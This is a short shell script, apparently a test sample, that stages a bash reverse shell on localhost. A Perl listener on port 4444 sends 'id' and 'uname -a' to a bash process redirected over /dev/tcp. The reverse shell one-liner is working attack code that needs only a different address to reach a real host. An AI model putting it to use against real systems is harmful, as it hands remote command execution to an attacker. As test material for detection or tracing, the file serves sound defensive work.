# SPDX-License-Identifier: Apache-2.0
#
# A reverse shell as it stands in every list of one-liners: bash opens a TCP connection and makes it its standard input
# and output; the other end types two commands.
play() {
	perl -MIO::Socket::INET -e '
		alarm 10; $l = IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => 4444, Listen => 1, ReuseAddr => 1) or die $!;
		$c = $l->accept; print $c "id\nuname -a\nexit\n"; 1 while <$c>' &
	while ! grep -q ':115C .* 0A ' /proc/net/tcp; do sleep 0.05; done
	bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'
	wait
}

if [ "${SAMPLE:-}" = play ]; then play; else . "$(dirname "$0")/../recipe.sh"; fi
